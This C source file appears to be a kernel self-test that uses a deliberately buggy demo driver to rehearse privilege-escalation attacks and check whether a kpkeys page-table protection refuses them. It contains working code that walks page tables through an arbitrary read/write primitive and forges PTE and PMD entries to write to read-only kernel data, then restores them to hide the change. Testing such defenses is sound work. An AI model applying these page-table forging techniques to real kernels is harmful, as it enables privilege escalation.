// SPDX-License-Identifier: GPL-2.0
/*
 * A rehearsal: an attacker without privileges finds a driver with a bug
 * (demo/kpkeys_bug.c) and uses it to change what the kernel has made read-only.
 * No code of the kernel is changed or misused for it, only page tables, which
 * are data.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "demo/kpkeys_bug.h"
#include "init.h"

#define DEVICE		"/dev/kpkeys_bug"
#define MODULE		"/kpkeys_bug.ko"
#define LAST_LEVEL	3
#define BITS(high, low)	((~0ull >> (63 - (high))) & (~0ull << (low)))

enum stage { BEGUN, STORING, STORED };

/* What the attacker knows; its parent sees how far it got */
static int id, bug;
static volatile enum stage *stage;
static struct bug_leak leak;
static unsigned int page_shift;

static void give_up(const char *what)
{
	say("error attacker: %s: %s", what, strerror(errno));
	_exit(2);
}

static uint64_t bug_read(uint64_t address)
{
	struct bug_word word = { .address = address };

	if (ioctl(bug, BUG_READ, &word))
		give_up("read");
	return word.value;
}

static void bug_write(uint64_t address, uint64_t value)
{
	struct bug_word word = { .address = address, .value = value };

	*stage = STORING;
	if (ioctl(bug, BUG_WRITE, &word))
		give_up("write");
	*stage = STORED;
}

/* ---- what is in an entry of a page table ---- */

/* With 52 bits, the upper bits of an address are where others have none or attributes */
static uint64_t address_of(uint64_t desc)
{
	if (page_shift == 16)
		return (desc & BITS(47, 16)) | (desc & BITS(15, 12)) << 36;
	if (leak.va_bits == 52)
		return (desc & BITS(49, page_shift)) | (desc & BITS(9, 8)) << 42;
	return desc & BITS(47, page_shift);
}

static uint64_t with_address(uint64_t desc, uint64_t pa)
{
	if (page_shift == 16)
		return (desc & ~BITS(47, 12)) | (pa & BITS(47, 16)) | (pa & BITS(51, 48)) >> 36;
	if (leak.va_bits == 52)
		return (desc & ~(BITS(49, page_shift) | BITS(9, 8))) |
		       (pa & BITS(49, page_shift)) | (pa & BITS(51, 50)) >> 42;
	return (desc & ~BITS(47, page_shift)) | (pa & BITS(47, page_shift));
}

struct entry {
	uint64_t address, desc;
};

/* Walk our own page tables, through the bug */
static struct entry find_entry(const void *page, int level)
{
	int stride = page_shift - 3, at = 4 - (leak.va_bits - page_shift + stride - 1) / stride;
	uint64_t to_linear_map = leak.pgd - leak.pgd_phys, table = leak.pgd;

	for (;; at++) {
		uint64_t index = (uintptr_t)page >> (page_shift + (LAST_LEVEL - at) * stride);
		struct entry e = { .address = table + (index & BITS(stride - 1, 0)) * 8 };

		e.desc = bug_read(e.address);
		if (at == level)
			return e;
		if ((e.desc & 3) != 3)
			give_up("no page table");
		table = address_of(e.desc) + to_linear_map;
	}
}

/* ---- the attacks ---- */

/*
 * fork() flushes all of what TLBs have of the process that calls it. Entries
 * that we have changed it does not see, see MADV_DONTFORK.
 */
static void flush_tlb(void)
{
	pid_t pid = fork();

	if (!pid)
		_exit(0);
	if (pid < 0 || waitpid(pid, NULL, 0) != pid)
		give_up("fork");
}

/* Of memory that is ours: a page that has a page table for itself, and another page */
static void prepare(char **window, char **other)
{
	/* as much as the last level of a page table maps */
	size_t span = 1ul << (2 * page_shift - 3);
	char *region = mmap(NULL, 3 * span, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (region == MAP_FAILED || madvise(region, 3 * span, MADV_DONTFORK) ||
	    (madvise(region, 3 * span, MADV_NOHUGEPAGE) && errno != EINVAL))
		give_up("mmap");
	*window = (char *)(((uintptr_t)region + span - 1) & -span);
	*other = *window + span;
	memset(*window, 1, 1ul << page_shift);
	memset(*other, 0, 1ul << page_shift);
}

static void get_leak(void)
{
	if (ioctl(bug, BUG_LEAK, &leak))
		give_up("leak");
	say("step id=%d what=leak pgd=0x%lx data=0x%lx data_phys=0x%lx", id, (long)leak.pgd,
	    (long)leak.data, (long)leak.data_phys);
}

/* Have an entry that says what we want, use it, and put it back so that nobody notices */
static void use_forged(struct entry entry, uint64_t desc, char *window, const char *text)
{
	say("step id=%d what=store entry=0x%lx value=0x%lx", id, (long)entry.address, (long)desc);
	bug_write(entry.address, desc);
	say("step id=%d what=stored", id);
	flush_tlb();
	say("step id=%d what=flushed", id);
	strcpy(window, text);
	say("step id=%d what=written page=%p", id, (void *)window);
	bug_write(entry.address, entry.desc);
	flush_tlb();
	say("step id=%d what=restored value=0x%lx", id, (long)entry.desc);
}

/* Without page tables: the kernel's own mapping is read-only */
static void attack_data(void)
{
	get_leak();
	say("step id=%d what=store entry=0x%lx value=0x%lx", id, (long)leak.data, 0l);
	bug_write(leak.data, 0);
}

static void attack_pte(void)
{
	char *window, *other;
	struct entry entry;

	get_leak();
	prepare(&window, &other);
	entry = find_entry(window, LAST_LEVEL);
	say("step id=%d what=walk page=%p entry=0x%lx value=0x%lx", id, (void *)window,
	    (long)entry.address, (long)entry.desc);
	use_forged(entry, with_address(entry.desc, leak.data_phys), window,
		   "written-by-a-user-(pte)");
}

/* The same at one level more: a page of our own becomes the page table */
static void attack_pmd(void)
{
	char *window, *other;
	struct entry pte, table, entry;

	get_leak();
	prepare(&window, &other);
	pte = find_entry(window, LAST_LEVEL);
	table = find_entry(other, LAST_LEVEL);
	/* the window is the first page that the table maps */
	*(volatile uint64_t *)other = with_address(pte.desc, leak.data_phys);
	entry = find_entry(window, LAST_LEVEL - 1);
	say("step id=%d what=walk page=%p entry=0x%lx value=0x%lx", id, (void *)window,
	    (long)entry.address, (long)entry.desc);
	use_forged(entry, with_address(entry.desc, address_of(table.desc)), window,
		   "written-by-a-user-(pmd)");
}

static const struct rehearsal {
	const char *level;	/* of the entry that is changed */
	void (*attack)(void);
} rehearsals[] = {
	{ "data", attack_data },
	{ "pte", attack_pte },
	{ "pmd", attack_pmd },
};

/* ---- what becomes of them ---- */

static void rehearse(const struct rehearsal *r, struct tally *t)
{
	struct report report = {};
	char before[64] = "", after[64] = "";
	bool data = r->attack == attack_data, refused, allowed, changed, want_refused, good;
	int status;
	pid_t pid;

	id = ++t->attacks;
	*stage = BEGUN;
	drain_log(NULL);
	if (!read_line(DEVICE, before, sizeof(before)) || !*before)
		say("error no data in " DEVICE);
	say("attack-begin id=%d target=driver level=%s kind=rehearsal data=%s", id, r->level,
	    before);
	pid = fork();
	if (!pid) {
		bug = open(DEVICE, O_RDWR);
		if (bug < 0)
			give_up(DEVICE);
		r->attack();
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid) {
		say("error cannot start a child: %s", strerror(errno));
		t->errors++;
		return;
	}
	drain_log(&report);
	read_line(DEVICE, after, sizeof(after));
	changed = strcmp(before, after);
	/* killed in the store, and not by a mistake of our own */
	refused = WIFSIGNALED(status) && *stage == STORING && report.write;
	allowed = WIFEXITED(status) && !WEXITSTATUS(status);
	want_refused = data || expect == EXPECT_PROTECTED;
	good = want_refused ? refused && !changed && report.overlay == !data : allowed && changed;
	say("attack-end id=%d target=driver level=%s kind=rehearsal result=%s data=%s changed=%d overlay=%d expected=%s",
	    id, r->level, refused ? "refused" : allowed ? "allowed" : "error", after, changed,
	    report.overlay, expect == EXPECT_NOTHING ? "-" : good ? "1" : "0");
	t->refused += refused;
	t->allowed += allowed;
	t->errors += !refused && !allowed;
	t->unexpected += expect != EXPECT_NOTHING && !good;
	if (expect == EXPECT_NOTHING)
		skip("no expectation", "attack by %s", r->level);
	else if (want_refused)
		result(good, "attack by %s: the store is refused%s, the data is as it was", r->level,
		       data ? "" : " by the overlay");
	else
		result(good, "attack by %s: read-only data is changed", r->level);
}

void rehearse_attacks(struct tally *t)
{
	long page = sysconf(_SC_PAGESIZE);
	size_t i;

	if (!load_module(MODULE)) {
		say("error cannot load " MODULE ": %s", strerror(errno));
		return;
	}
	page_shift = __builtin_ctzl(page);
	stage = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (stage == MAP_FAILED) {
		say("error mmap: %s", strerror(errno));
		return;
	}
	for (i = 0; i < sizeof(rehearsals) / sizeof(rehearsals[0]); i++)
		rehearse(&rehearsals[i], t);
}
